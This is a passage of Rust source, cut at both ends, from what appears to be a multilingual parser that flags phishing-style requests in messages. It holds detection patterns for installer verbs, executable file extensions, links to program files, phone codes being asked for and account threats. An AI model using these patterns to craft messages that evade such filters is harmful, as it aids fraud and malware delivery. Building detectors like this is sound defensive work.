                        t.aside = aside;
                        t.inverted = std::mem::take(&mut inverted);
                    }
                    sep = Sep::None;
                    line_start = false;
                    continue;
                }
                if line_start
                    && matches!(
                        buffer.get(i..i + len),
                        Some(
                            "•" | "◦"
                                | "▪"
                                | "‣"
                                | "►"
                                | "●"
                                | "○"
                                | "■"
                                | "□"
                                | "–"
                                | "—"
                                | "·"
                                | "✓"
                                | "✔"
                                | "➢"
                                | "→"
                        )
                    )
                {
                    sep = sep.max(Sep::Sentence);
                }
                if matches!(buffer.get(i..i + len), Some("¿") | Some("¡")) {
                    inverted = true;
                }
                if matches!(buffer.get(i..i + len), Some("€") | Some("£")) {
                    money = true;
                    if let Some(t) = toks.last_mut()
                        && t.digits
                        && i - t.end <= 1
                    {
                        t.amount = true;
                    }
                }
                i += len;
            }
        }
        close_quote(&mut quote_lines, &mut quote_from, i.min(range.end));
    }
    // A digest is one part's layout: a plain part and its HTML twin each
    // have the same few short lines, which together make no digest.
    for range in ranges {
        let from = toks.partition_point(|t| t.start < range.start);
        let to = toks.partition_point(|t| t.start < range.end);
        mark_headings(&mut toks[from..to]);
    }
    // A quoted word or two ("the "Approver" role") is a name, not a
    // quotation of someone else's words.
    let mut i = 0;
    while i < toks.len() {
        if !toks[i].quoted {
            i += 1;
            continue;
        }
        let mut j = i;
        while j < toks.len() && toks[j].quoted && (j == i || toks[j].sep <= Sep::Comma) {
            j += 1;
        }
        if j - i <= 3 {
            for t in &mut toks[i..j] {
                t.quoted = false;
                t.label = true;
            }
        }
        i = j.max(i + 1);
    }
    // A link's text (an HTML anchor) points at a page as a web address
    // written after a word does.
    for &end in &marks.link_ends {
        let before = toks.partition_point(|t| t.end <= end);
        if let Some(t) = before.checked_sub(1).map(|k| &mut toks[k])
            && end - t.end <= 2
        {
            t.link = true;
        }
    }
    (toks, quote_lines)
}

/// The full stop at `dot` ends a word, not the sentence: a title or
/// abbreviation ("M. Renard", "Dr. Weber", "ca. zwei Wochen", "RR. HH."),
/// an initial, a date ("ab dem 7.12. für"). An ordinal before its month
/// ("zum 1. Dezember") is joined once the month is known (`join_ordinals`).
fn abbreviated(buffer: &str, toks: &[Tok], dot: usize) -> bool {
    let Some(t) = toks.last().filter(|t| t.end == dot) else {
        return false;
    };
    let word = &buffer[t.start..t.end];
    if word.chars().count() == 1 && !t.digits || ABBREVIATIONS.contains(&word) {
        return true;
    }
    // Spanish plurals of abbreviations double the letter: "RR. HH.",
    // "EE. UU.", "FF. AA.".
    let mut letters = word.chars();
    if let (Some(a), Some(b), None) = (letters.next(), letters.next(), letters.next())
        && a == b
        && a.is_alphabetic()
    {
        return true;
    }
    if !t.digits || word.len() > 2 {
        return false;
    }
    // "7.12.": a day and a month.
    t.start > 0
        && buffer.as_bytes()[t.start - 1] == b'.'
        && toks.len() > 1
        && toks[toks.len() - 2].digits
        && toks[toks.len() - 2].end + 1 == t.start
}

/// Marks [`Tok::gender`]: articles and clitic pronouns by their word,
/// a verb holding its clitic by its ending ("pásamelo"), a noun by the
/// article right before it. Spanish "le" is the indirect object, of either
/// gender.
fn mark_gender(buffer: &str, toks: &mut [Tok], french: bool) {
    let of = |w: &str| match w {
        "lo" | "los" | "el" | "un" | "unos" | "del" | "al" | "du" | "au" => Gender::Masculine,
        "le" if french => Gender::Masculine,
        "la" | "las" | "una" | "unas" => Gender::Feminine,
        _ => Gender::Unknown,
    };
    for i in 0..toks.len() {
        let w = &buffer[toks[i].start..toks[i].end];
        let t = &toks[i];
        let gender = if t.cls & (C::ARTICLE.bit() | C::PRONOUN.bit()) != 0 && !w.contains(' ') {
            match of(w) {
                Gender::Unknown if t.cls & bits(VERBS) != 0 => {
                    if w.ends_with("lo") || w.ends_with("los") {
                        Gender::Masculine
                    } else if w.ends_with("la") || w.ends_with("las") {
                        Gender::Feminine
                    } else {
                        Gender::Unknown
                    }
                }
                g => g,
            }
        } else if i > 0 && toks[i - 1].cls & C::ARTICLE.bit() != 0 && toks[i].sep == Sep::None {
            toks[i - 1].gender
        } else {
            Gender::Unknown
        };
        toks[i].gender = gender;
    }
}

/// An ordinal's full stop ends no sentence before a month or day name:
/// "ab dem 1. Dezember", "am 3. Mittwoch"; nor, in German, after an
/// article ("die 2. Rate", "der 3. Lauf"), where a sentence cannot end.
/// Read once words have classes.
fn join_ordinals(buffer: &str, toks: &mut [Tok], german: bool) {
    for i in 1..toks.len() {
        let after_article = german
            && i >= 2
            && toks[i - 1].sep < Sep::Sentence
            && toks[i - 2].cls & C::ARTICLE.bit() != 0;
        let (before, after) = toks.split_at_mut(i);
        let (number, next) = (&mut before[i - 1], &mut after[0]);
        if next.sep == Sep::Sentence
            && (next.cls & C::DAY_NAME.bit() != 0 || after_article)
            && number.digits
            && number.end - number.start <= 2
            && buffer.as_bytes().get(number.end) == Some(&b'.')
        {
            next.sep = Sep::None;
            number.stop = false;
        }
    }
}

/// Titles and abbreviations written with a full stop inside a sentence,
/// folded. Not those that often end one ("etc.", "usw.").
const ABBREVIATIONS: &[&str] = &[
    "mr", "mrs", "ms", "dr", "prof", "mme", "mlle", "mmes", "hr", "hrn", "fr", "sr", "sra", "srta",
    "sres", "dna", "ca", "bzw", "ggf", "evtl", "inkl", "vgl", "nr", "tel", "approx", "env", "cf",
    "dept", "abt", "ext",
];

/// The most words of a list item read together with the clause that
/// opened the list, and how far after its start such items may stand.
const LIST_ITEM_WORDS: usize = 12;
const LIST_SPAN_WORDS: usize = 60;

/// Particles of German separable verbs, as they stand at a clause's end.
const SEPARABLE_PARTICLES: &[&str] = &[
    "hinzu", "frei", "ein", "herunter", "aus", "mit", "auf", "an", "zuruck", "weiter", "um",
    "durch", "vor", "zu", "bereit", "fest", "ab", "hoch", "her",
];

/// The most words of a heading.
const HEADING_WORDS: usize = 8;
/// The widest heading, in bytes of folded text.
const HEADING_WIDTH: usize = 64;
/// Headings with prose under them that make a message a digest.
const DIGEST_HEADINGS: usize = 3;

/// Marks the headings of a digest: lines of a few words that end without a
/// full stop and stand over a longer line of prose. A newsletter is built
/// of them ("Reset your expectations for serverless costs" over its
/// teaser); one short line over prose is a greeting or a terse note, so
/// only a message with several counts.
/// A salutation on its own line ("Hi team,", "Sehr geehrter Herr
/// Baumann,") is no part of the sentence under it: the line after it starts
/// a sentence, so that "install the update" there opens its clause.
fn cut_salutations(toks: &mut [Tok]) {
    let mut i = 0;
    while i < toks.len() {
        let opens_line = i == 0 || toks[i].sep >= Sep::Line;
        if opens_line && toks[i].cls & C::SALUTATION.bit() != 0 {
            let next_line = (i + 1..toks.len().min(i + SALUTATION_WORDS + 1))
                .find(|&j| toks[j].sep >= Sep::Line);
            if let Some(j) = next_line {
                toks[j].sep = toks[j].sep.max(Sep::Sentence);
                i = j;
                continue;
            }
        }
        i += 1;
    }
}

/// The most words of a salutation line.
const SALUTATION_WORDS: usize = 6;

fn mark_headings(toks: &mut [Tok]) {
    let mut lines: Vec<Range<usize>> = Vec::new();
    let mut start = 0;
    for i in 1..=toks.len() {
        if i == toks.len() || toks[i].sep >= Sep::Line && toks[i].sep != Sep::Paren {
            lines.push(start..i);
            start = i;
        }
    }
    let heading = |l: &Range<usize>, next: Option<&Range<usize>>| {
        let last = &toks[l.end - 1];
        // A prose line wrapped around a web address has few words but the
        // width of its paragraph: no heading.
        l.len() <= HEADING_WORDS
            && last.end - toks[l.start].start <= HEADING_WIDTH
            && !last.stop
            && !last.colon
            && next.is_some_and(|n| {
                n.len() > l.len() && n.len() > HEADING_WORDS / 2
                    || toks[n.clone()].iter().any(|t| t.stop)
            })
            && next.is_some_and(|n| n.len() > 3)
    };
    let marked: Vec<&Range<usize>> = lines
        .iter()
        .enumerate()
        .filter(|(k, l)| heading(l, lines.get(k + 1)))
        .map(|(_, l)| l)
        .collect();
    if marked.len() < DIGEST_HEADINGS {
        return;
    }
    let marked: Vec<Range<usize>> = marked.into_iter().cloned().collect();
    for l in marked {
        for t in &mut toks[l] {
            t.heading = true;
        }
    }
}

/// Byte ranges of runs of quoted tokens.
fn quoted_spans(toks: &[Tok]) -> Vec<Range<usize>> {
    let mut spans: Vec<Range<usize>> = Vec::new();
    let mut open: Option<Range<usize>> = None;
    for t in toks {
        match (&mut open, t.quoted) {
            (Some(r), true) => r.end = t.end,
            (None, true) => open = Some(t.start..t.end),
            (Some(_), false) => spans.extend(open.take()),
            (None, false) => {}
        }
    }
    spans.extend(open);
    spans
}

/// Notes that the web address `url` follows the last word of the range
/// starting at `range_start`, and whether it names a program file.
fn mark_link(toks: &mut [Tok], range_start: usize, url: &str) {
    if let Some(t) = toks.last_mut()
        && t.start >= range_start
    {
        t.link = true;
        t.program_link |= links_a_program(url);
    }
}

/// The address's path ends in a program's file name ("/get/setup.exe",
/// "/Tool.msi?dl=1"), sentence punctuation after it aside.
fn links_a_program(url: &str) -> bool {
    let path = url.split(['?', '#']).next().unwrap_or(url);
    let path = path.trim_end_matches(['.', ',', ';', ':', ')', '>', '"', '\'', '!']);
    path.rsplit_once('/')
        .and_then(|(_, file)| file.rsplit_once('.'))
        .is_some_and(|(_, ext)| is_executable(ext))
}

fn push_tok(
    toks: &mut Vec<Tok>,
    buffer: &str,
    start: usize,
    end: usize,
    sep: Sep,
    quoted: bool,
    reply_quote: bool,
) {
    if reply_quote {
        // A line of a quoted reply ("> ..."): someone else's words.
        return;
    }
    let bytes = buffer.as_bytes();
    let digits = bytes[start..end].iter().all(u8::is_ascii_digit);
    // "mail.example.net", "setup.exe", "ports/lang": part of a name, not a
    // word of the sentence.
    let glued = matches!(bytes.get(end), Some(b'.') | Some(b'/') | Some(b'_'))
        && bytes.get(end + 1).is_some_and(u8::is_ascii_alphanumeric);
    toks.push(Tok {
        start,
        end,
        sep,
        quoted,
        digits,
        glued,
        ..Tok::default()
    });
}

/// ASCII bytes that are word characters: letters, digits, `_`.
const ASCII_WORD: [bool; 256] = {
    let mut table = [false; 256];
    let mut b = 0;
    while b < 128 {
        table[b] = (b as u8).is_ascii_alphanumeric() || b == b'_' as usize;
        b += 1;
    }
    table
};

/// The end of the word whose characters run from `i` (before `end`): ASCII
/// letters, digits and `_`, and other word characters.
fn word_end(buffer: &str, mut i: usize, end: usize) -> usize {
    let bytes = buffer.as_bytes();
    loop {
        while i < end && ASCII_WORD[usize::from(bytes[i])] {
            i += 1;
        }
        if i < end && bytes[i] >= 0x80 && word_char_at(buffer, i) {
            i += char_len(bytes[i]);
        } else {
            return i;
        }
    }
}

fn char_len(b: u8) -> usize {
    match b {
        0xf0..=0xff => 4,
        0xe0..=0xef => 3,
        0xc0..=0xdf => 2,
        _ => 1,
    }
}

fn word_char_at(buffer: &str, i: usize) -> bool {
    buffer
        .get(i..)
        .and_then(|s| s.chars().next())
        .is_some_and(is_word_char)
}

/// The languages to read the message in: the one its function words vote
/// for, and English (the vocabulary of IT is English in every language).
fn languages(buffer: &str, toks: &[Tok]) -> Vec<Lang> {
    let mut votes = [0u32; 4];
    // The first few hundred words tell the language.
    for t in toks.iter().take(600) {
        if t.end - t.start > 8 {
            continue;
        }
        let lang = match &buffer[t.start..t.end] {
            "the" | "and" | "you" | "your" | "to" | "of" | "is" | "for" | "with" | "this"
            | "that" | "are" | "we" | "please" | "have" | "will" | "be" | "our" | "it" | "not"
            | "can" | "would" | "could" => EN,
            "hat" | "sich" | "unsere" | "unser" | "haben" | "bei" | "von" | "im" | "nach"
            | "wurde" | "der" | "das" | "und" | "sie" | "ist" | "nicht" | "mit" | "ich"
            | "bitte" | "ihre" | "ihr" | "zu" | "den" | "wir" | "ein" | "eine" | "fur" | "auf"
            | "dem" | "uns" | "noch" | "sehr" | "ihnen" | "wird" | "sind" | "auch" => DE,
            "avez" | "avons" | "sera" | "mon" | "notre" | "aux" | "cette" | "mais" | "ou"
            | "et" | "vous" | "est" | "pour" | "des" | "une" | "votre" | "nous" | "pas"
            | "dans" | "du" | "au" | "ce" | "sur" | "avec" | "merci" | "bonjour" | "vos"
            | "sont" | "je" => FR,
            "podria" | "necesito" | "favor" | "ha" | "han" | "hemos" | "le" | "les" | "como"
            | "pero" | "el" | "los" | "las" | "y" | "su" | "para" | "por" | "usted" | "con"
            | "una" | "del" | "al" | "lo" | "sus" | "gracias" | "hola" | "muy" | "esta"
            | "este" | "nos" | "estimado" | "estimada" => ES,
            _ => continue,
        };
        votes[lang] += 1;
    }
    let mut order = [EN, DE, FR, ES];
    order.sort_by_key(|&l| std::cmp::Reverse(votes[l]));
    let first = if votes[order[0]] == 0 { EN } else { order[0] };
    // Too few function words to tell (a subject line, a one-line note):
    // read it in every language.
    if votes.iter().sum::<u32>() < 3 {
        return vec![first, EN, DE, FR, ES]
            .into_iter()
            .enumerate()
            .filter(|&(i, l)| i == 0 || l != first)
            .map(|(_, l)| l)
            .collect();
    }
    let mut langs = vec![first];
    if first != EN {
        langs.push(EN);
    } else if votes[order[1]] >= 3 && votes[order[1]] * 3 >= votes[order[0]] {
        langs.push(order[1]);
    }
    langs
}

/// Indices of the first token of every phone number of the message found
/// in the text, with the number.
fn phone_positions(buffer: &str, toks: &[Tok], phones: &[String]) -> Vec<(usize, String)> {
    let mut out = Vec::new();
    if phones.is_empty() {
        return out;
    }
    let wanted: Vec<(String, &String)> = phones
        .iter()
        .map(|p| (p.chars().filter(char::is_ascii_digit).collect(), p))
        .collect();
    let mut i = 0;
    while i < toks.len() {
        if !toks[i].digits {
            i += 1;
            continue;
        }
        let mut digits = String::new();
        let mut j = i;
        while j < toks.len()
            && toks[j].digits
            && (j == i || toks[j].sep <= Sep::Comma)
            && digits.len() < 20
        {
            digits.push_str(&buffer[toks[j].start..toks[j].end]);
            j += 1;
            if let Some((_, p)) = wanted.iter().find(|(w, _)| {
                w.len() >= 7
                    && (digits.ends_with(w.as_str())
                        || w.ends_with(digits.as_str()) && digits.len() >= 7)
            }) {
                out.push((i, (*p).clone()));
                break;
            }
        }
        i = j.max(i + 1);
    }
    out
}

/// A clause: a run of tokens, and whether it was opened by a condition.
#[derive(Debug, Clone)]
struct Clause {
    toks: Range<usize>,
    /// A parenthetical aside: its tokens are those marked `aside`.
    aside: bool,
    /// Index of the sentence it belongs to.
    sentence: usize,
}

const OPENERS: &[C] = &[
    C::CONDITION,
    C::WRITER_SUBJECT,
    C::THIRD_PARTY,
    C::POLITE,
    C::CONJUNCTION,
    C::MODAL,
];

/// A verb that puts a program on a machine ("install", "download",
/// "descargar", "télécharger", "herunterladen", "einspielen"), not one
/// that merely runs or loads it.
fn is_setup_verb(word: &str) -> bool {
    [
        "install",
        "instal",
        "download",
        "descarg",
        "telecharg",
        // "herunterladen", and the particle of "laden Sie ... herunter".
        "herunter",
        "einspiel",
        "aufspiel",
    ]
    .iter()
    .any(|p| word.starts_with(p))
}

/// "Have" in the four languages: after a modal, asking to be given
/// ("can I have ...?", "pourrais-je avoir ...?").
fn is_having(word: &str) -> bool {
    matches!(word, "have" | "haben" | "avoir" | "tener")
}

fn is_verb(cls: Classes) -> bool {
    cls & bits(VERBS) != 0
}

fn clauses(toks: &[Tok]) -> Vec<Clause> {
    let openers = bits(OPENERS);
    let mut out = Vec::new();
    let mut start = 0;
    let mut sentence = 0;
    let mut conditional = false;
    let mut i = 0;
    while i < toks.len() {
        let t = &toks[i];
        if t.covered || t.aside {
            i += 1;
            continue;
        }
        let mut cut = false;
        if i > start {
            match t.sep {
                Sep::Sentence | Sep::Paragraph => {
                    cut = true;
                }
                // The text after an aside goes on with the clause before it.
                Sep::Paren => {}
                // A wrapped line goes on unless a new subject or act starts.
                // Not after a word that needs what follows: "vous êtes
                // priée de / nous transmettre".
                Sep::Line => {
                    // "... and read me the code" wrapped onto its line: an
                    // order aimed at the writer opens a clause of its own.
                    let dangling = bits(&[C::ARTICLE, C::TOWARD, C::PURPOSE]);
                    let mut next = toks[i + 1..].iter().filter(|n| !n.covered);
                    let and_verb = t.cls & C::CONJUNCTION.bit() != 0
                        && next.next().is_some_and(|n| is_verb(n.cls))
                        && next
                            .next()
                            .is_some_and(|n| n.cls & C::WRITER_OBJECT.bit() != 0);
                    // "falls Sie die Daten nicht / prüfen:": a verb
                    // alone on the new line ends the clause wrapped before it.
                    let closing_verb = is_verb(t.cls)
                        && (t.colon || toks.get(i + 1).is_none_or(|n| n.sep >= Sep::Comma));
                    cut = (conditional || t.cls & strong_openers() != 0 || and_verb)
                        && toks[i - 1].cls & dangling == 0
                        && !closing_verb;
                }
                Sep::Comma => {
                    // "..., then just forward it to us": a verb after a word
                    // or two of filler opens a clause as a verb would.
                    let verb_after_filler = t.cls & C::FILLER.bit() != 0
                        && toks[i + 1..]
                            .iter()
                            .take(2)
                            .take_while(|n| matches!(n.sep, Sep::None | Sep::Line))
                            .find(|n| n.cls & C::FILLER.bit() == 0)
                            .is_some_and(|n| is_verb(n.cls));
                    cut = conditional
                        || t.cls & openers != 0
                        || is_verb(t.cls)
                        || t.inverted
                        || verb_after_filler;
                }
                Sep::None => {
                    // "... and please send", "... but we will never ask",
                    // "... and ask your IT to approve".
                    let openers = if t.cls & C::CONJUNCTION.bit() != 0 {
                        openers | C::ASK.bit()
                    } else {
                        openers
                    };
                    if t.cls & C::CONDITION.bit() != 0
                        || t.cls & (C::CONJUNCTION.bit()) != 0 && t.cls & C::FILLER.bit() == 0
                        || t.cls & C::CONJUNCTION.bit() != 0 && next_is_opener(toks, i, openers)
                    {
                        cut = next_is_opener(toks, i, openers);
                    }
                }
            }
        }
        if cut {
            out.push(Clause {
                toks: start..i,
                aside: false,
                sentence,
            });
            if t.sep >= Sep::Sentence {
                sentence += 1;
            }
            start = i;
            conditional = false;
        }
        if i == start || toks[start..i].iter().all(|t| t.cls & C::FILLER.bit() != 0) {
            conditional |= t.cls & C::CONDITION.bit() != 0;
        }
        i += 1;
    }
    if start < toks.len() {
        out.push(Clause {
            toks: start..toks.len(),
            aside: false,
            sentence,
        });
    }
    // Each aside is a clause of its own, in the sentence around it.
    let mut i = 0;
    while i < toks.len() {
        if !toks[i].aside {
            i += 1;
            continue;
        }
        let start = i;
        while i < toks.len() && toks[i].aside && (i == start || toks[i].sep < Sep::Paren) {
            i += 1;
        }
        let sentence = out
            .iter()
            .find(|c| !c.aside && c.toks.end > start)
            .map_or(0, |c| c.sentence);
        out.push(Clause {
            toks: start..i,
            aside: true,
            sentence,
        });
    }
    out.sort_by_key(|c| c.toks.start);
    out
}

fn strong_openers() -> Classes {
    bits(&[C::CONDITION, C::WRITER_SUBJECT, C::THIRD_PARTY, C::POLITE])
}

fn next_is_opener(toks: &[Tok], i: usize, openers: Classes) -> bool {
    toks[i + 1..]
        .iter()
        .find(|t| !t.covered)
        .is_some_and(|t| t.cls & openers != 0 || is_verb(t.cls))
}

/// What set a clause up as a request.
#[derive(Debug, Clone, Copy)]
struct Act {
    /// The token that carries the act.
    at: usize,
}

struct Reader<'a> {
    lexicon: &'a Lexicon,
    /// Whether an imperative may open the clause being read: at the start
    /// of a sentence, or after a clause that was itself a request ("install
    /// it and run the setup"); "... and pay a fee" in a story is no order.
    may_command: bool,
    /// Whether the clause being read goes on a sentence whose clause
    /// before ended in a link ("download it from https://... and run the
    /// installer"): what it names is given there.
    follows_link: bool,
    /// Clauses (token ranges) that retell what was said before ("her
    /// message was short: ..."): nothing found there is the writer's.
    retold: Vec<Range<usize>>,
    buffer: &'a str,
    toks: &'a [Tok],
    visible: &'a Visible,
    found: Vec<Recognised>,
    /// Byte ranges of clauses that name a request's verb or object but are
    /// negated or reported: what they mention is not asked.
    muted: Vec<Range<usize>>,
    /// Byte ranges of clauses describing what others can do.
    described: Vec<Range<usize>>,
    /// Byte ranges of conditions setting a scene with others in it.
    scenes: Vec<Range<usize>>,
    langs: &'a [Lang],
    /// The classes of the sentence being read, for the context of a
    /// payment: "new supplier", an amount, "below".
    sentence_cls: Classes,
    sentence_amount: bool,
    /// A clause of the sentence, not a subordinate one, says "as usual":
    /// "as usual, sign in at ..." ("so that your shares remain, sign in
    /// ..." keeps a thing, not the way).
    sentence_usual: bool,
    /// An earlier sentence said a code reaches the reader's phone: "send
    /// that code back" then asks for that secret.
    code_sent: bool,
    /// A loss was threatened to the reader's account or service: a scare
    /// that a number to call may be tied to.
    threatened: bool,
    /// The message gives a phone number: a call it arranges goes to a
    /// line the writer chose.
    number_given: bool,
    /// The message says "tu" to the reader: French verbs in -e opening a
    /// clause are the familiar imperative ("installe l'outil").
    familiar: bool,
    /// Where the subject line ends in the buffer (0 when there is none).
    subject_end: usize,
    /// Every class of the message's words.
    message_cls: Classes,
}

/// The indices of the words the grammar reads, in order: not covered by
/// a multi-word unit that starts before them, not between quotation
/// marks; one list for the running text and one for asides. Views take
/// their slices of these instead of filtering every token on every look.
struct Visible {
    main: Vec<u32>,
    aside: Vec<u32>,
}

impl Visible {
    fn of(toks: &[Tok]) -> Visible {
        let mut v = Visible {
            main: Vec::with_capacity(toks.len()),
            aside: Vec::new(),
        };
        for (i, t) in toks.iter().enumerate() {
            if t.covered || t.quoted {
                continue;
            }
            if t.aside { &mut v.aside } else { &mut v.main }.push(i as u32);
        }
        v
    }
    /// The readable words of `range` on the `aside` side.
    fn within(&self, range: &Range<usize>, aside: bool) -> &[u32] {
        let list = if aside { &self.aside } else { &self.main };
        let from = list.partition_point(|&i| (i as usize) < range.start);
        let to = from + list[from..].partition_point(|&i| (i as usize) < range.end);
        &list[from..to]
    }
}

/// A view of one clause's tokens, with the clauses just before it for the
/// things its pronouns refer back to.
struct View<'a> {
    toks: &'a [Tok],
    range: Range<usize>,
    back: Range<usize>,
    aside: bool,
    /// The readable words of `range`.
    ids: &'a [u32],
    /// Every class of the clause's words, to answer "is there any" at once.
    cls: Classes,
}

impl<'a> View<'a> {
    fn idx(&self) -> impl DoubleEndedIterator<Item = usize> + Clone + '_ {
        self.ids.iter().map(|&i| i as usize)
    }
    fn new(
        toks: &'a [Tok],
        visible: &'a Visible,
        range: Range<usize>,
        back: Range<usize>,
        aside: bool,
    ) -> View<'a> {
        let ids = visible.within(&range, aside);
        let cls = ids.iter().fold(0, |acc, &i| acc | toks[i as usize].cls);
        View {
            toks,
            range,
            back,
            aside,
            ids,
            cls,
        }
    }
    /// A clause read on its own, with nothing before it to refer back to.
    fn of_clause(toks: &'a [Tok], visible: &'a Visible, clause: &Clause) -> View<'a> {
        let start = clause.toks.start;
        View::new(
            toks,
            visible,
            clause.toks.clone(),
            start..start,
            clause.aside,
        )
    }
    fn all(&self) -> Classes {
        self.cls
    }
    fn first(&self, c: C) -> Option<usize> {
        if self.cls & c.bit() == 0 {
            return None;
        }
        self.idx().find(|&i| self.toks[i].cls & c.bit() != 0)
    }
    /// A token of class `a` and a different token of class `b`; when the
    /// clause has no `b` but a pronoun ("read it to me"), a `b` of the
    /// clauses before.
    fn pair(&self, a: C, b: C) -> Option<(usize, usize)> {
        if self.cls & a.bit() == 0
            || self.cls & b.bit() == 0
                && (self.back.is_empty()
                    || self.cls & C::PRONOUN.bit() == 0
                        && !self
                            .idx()
                            .any(|i| self.bare_order(i) || self.demonstrative_after(i)))
        {
            return None;
        }
        for i in self.idx().filter(|&i| self.toks[i].cls & a.bit() != 0) {
            if let Some(j) = self
                .idx()
                .find(|&j| j != i && self.toks[j].cls & b.bit() != 0)
            {
                return Some((i, j));
            }
            if self.pronoun_near(i)
                && !self.purpose_of_pronoun(i)
                && let Some(j) = self.back.clone().rev().find(|&j| {
                    !self.toks[j].covered
                        && !self.toks[j].quoted
                        && self.toks[j].cls & b.bit() != 0
                        && self.agrees(i, j)
                })
            {
                return Some((i, j));
            }
        }
        None
    }

    /// A Spanish or French pronoun takes up a noun of its gender: "el
    /// recibo ... ¿me lo reenvías?" is the receipt, not "la factura" named
    /// after it. Unknown genders agree.
    fn agrees(&self, verb: usize, noun: usize) -> bool {
        let toks = self.toks;
        let from = verb.saturating_sub(2).max(self.range.start);
        let to = (verb + 3).min(self.range.end);
        // The pronoun: a clitic near the verb, or held by it ("pásamelo").
        let pronoun = (from..to)
            .filter(|&k| k != verb && toks[k].cls & C::PRONOUN.bit() != 0)
            .map(|k| toks[k].gender)
            .find(|&g| g != Gender::Unknown)
            .unwrap_or(toks[verb].gender);
        let noun = toks[noun].gender;
        pronoun == Gender::Unknown || noun == Gender::Unknown || pronoun == noun
    }

    /// The verb at `at` and its pronoun make a purpose: "pour l'ouvrir",
    /// "um es zu öffnen", "para abrirlo". What "it" is done to is the
    /// reader's own aim, not what is asked.
    fn purpose_of_pronoun(&self, at: usize) -> bool {
        let toks = self.toks;
        // "para poder leerlo", "pour pouvoir l'ouvrir": a modal
        // between the purpose and its verb does not count.
        let before: Vec<usize> = (self.range.start..at)
            .rev()
            .filter(|&j| toks[j].cls & (C::FILLER.bit() | C::MODAL.bit()) == 0)
            .take(3)
            .collect();
        let is = |k: usize, c: C| before.get(k).is_some_and(|&j| toks[j].cls & c.bit() != 0);
        // German puts "zu" between: "um es zu öffnen".
        let zu = before.first().is_some_and(|&j| !is_verb(toks[j].cls));
        is(0, C::PRONOUN) && is(1, C::PURPOSE)
            || zu && is(1, C::PRONOUN) && is(2, C::PURPOSE)
            || toks[at].cls & C::PRONOUN.bit() != 0 && is(0, C::PURPOSE)
    }
    /// An English demonstrative stands for the verb's object: "copy those
    /// from the archive", "export those for me". Not one before its noun ("send
    /// this form"), which the clause names itself.
    fn demonstrative_after(&self, verb: usize) -> bool {
        let toks = self.toks;
        if !is_verb(toks[verb].cls) {
            return false;
        }
        // Told of the writer's own doing, "I'm authorising this" asks nothing.
        if self.near(verb, C::WRITER_SUBJECT, 2, 0).is_some() {
            return false;
        }
        let mut next = self.idx().filter(|&j| j > verb);
        let Some(d) = next.next() else { return false };
        toks[d].cls & C::DEMONSTRATIVE.bit() != 0
            && next.next().is_none_or(|j| {
                toks[j].cls & bits(&[C::TOWARD, C::FROM, C::CONJUNCTION, C::FILLER, C::WITH]) != 0
            })
    }

    /// A pronoun stands near the verb at `at`, naming something said
    /// before: "can you reset it", "me la podéis resetear". A word that is
    /// also an article is one only before a verb or at the clause's end:
    /// "la" in "actualizar la ficha" is an article.
    fn pronoun_near(&self, at: usize) -> bool {
        // Two words before the verb, fillers and the rest of a multi-word
        // unit ("so bald wie möglich") not counted.
        let mut from = at;
        let mut words = 0;
        while from > self.range.start && words < 2 {
            from -= 1;
            if self.toks[from].cls & C::FILLER.bit() == 0 && !self.toks[from].covered {
                words += 1;
            }
        }
        let to = (at + 4).min(self.range.end);
        // The verb may hold its pronoun: "léemelo", "envíela".
        if self.toks[at].cls & C::PRONOUN.bit() != 0 && self.toks[at].cls & bits(VERBS) != 0 {
            return true;
        }
        if self.bare_order(at) || self.demonstrative_after(at) {
            return true;
        }
        // "Contéstame al mensaje con él", "answer the ticket with it":
        // what is handed over follows "with", past the way.
        if (at + 1..(at + 8).min(self.range.end)).any(|j| {
            self.toks[j].cls & C::PRONOUN.bit() != 0
                && self.toks[j - 1].cls & C::WITH.bit() != 0
                && !self.toks[j].covered
        }) {
            return true;
        }
        (from..to).any(|j| {
            let t = &self.toks[j];
            if j == at || t.covered || t.aside != self.aside || t.cls & C::PRONOUN.bit() == 0 {
                return false;
            }
            // German "Sie" after the modal ("können Sie den Termin ...") is
            // the reader as subject, no pronoun of a thing ("können Sie sie
            // zurücksetzen" still has its second "sie").
            if t.cls & C::ADDRESSEE.bit() != 0
                && j > self.range.start
                && self.toks[j - 1].cls & C::MODAL.bit() != 0
            {
                return false;
            }
            // Fillers between do not count: "schreib mir den kurz hier rein";
            // nor does when: "kannst du das bitte sofort einspielen".
            let between = C::FILLER.bit() | C::URGENT.bit();
            t.cls & C::ARTICLE.bit() == 0
                || self.toks[j + 1..self.range.end]
                    .iter()
                    .find(|n| !n.covered && n.cls & between == 0)
                    .is_none_or(|n| {
                        n.sep >= Sep::Comma
                            || is_verb(n.cls)
                            || n.cls & C::MODAL.bit() != 0
                            // "transmets-le-moi": the writer after it.
                            || n.cls & C::WRITER_OBJECT.bit() != 0 && n.sep == Sep::None
                    })
        })
    }
    /// The clause is the verb at `at` and courtesy alone: a bare order to
    /// act on a system takes its object from what was just said ("...
    /// brauchen Schreibrechte auf den Ordner. Bitte einrichten."). "Please read" or
    /// "please send" alone are too common to mean what came before.
    fn bare_order(&self, at: usize) -> bool {
        let acting = bits(&[
            C::V_GRANT,
            C::V_CREATE,
            C::V_ENROL,
            C::V_RESET,
            C::V_DISABLE,
            C::V_INSTALL,
            C::V_APPROVE,
        ]);
        // A quoted button name is what the verb presses, not an object:
        // 'tap "Approve"' after the prompt was named. Nor is what it is done
        // with ("with elevated rights", "mit erhöhten Rechten").
        let mut with = false;
        self.toks[at].cls & acting != 0
            && self.idx().all(|j| {
                with = j < at && (with || self.toks[j].cls & C::WITH.bit() != 0);
                j == at
                    || with
                    || self.toks[j].cls & bits(&[C::POLITE, C::FILLER]) != 0
                    || self.toks[j].label
            })
    }
    fn near(&self, at: usize, c: C, before: usize, after: usize) -> Option<usize> {
        let from = at.saturating_sub(before).max(self.range.start);
        let to = (at + after + 1).min(self.range.end);
        (from..to).find(|&j| {
            let t = &self.toks[j];
            j != at && !t.covered && t.aside == self.aside && t.cls & c.bit() != 0
        })
    }
    /// An amount of money: a number written with a currency.
    fn amount(&self) -> Option<usize> {
        self.idx().find(|&i| self.toks[i].amount)
    }
}

/// A program's file name ending, as a word: "setup.exe" reads "setup", "exe".
fn is_executable(word: &str) -> bool {
    matches!(
        word,
        "exe"
            | "msi"
            | "scr"
            | "bat"
            | "cmd"
            | "ps1"
            | "vbs"
            | "hta"
            | "jar"
            | "appx"
            | "msix"
            | "lnk"
            // Browser extensions and macOS installers install too.
            | "crx"
            | "xpi"
            | "dmg"
            | "pkg"
    )
}

/// A command-line tool that fetches from a web address, and whether it
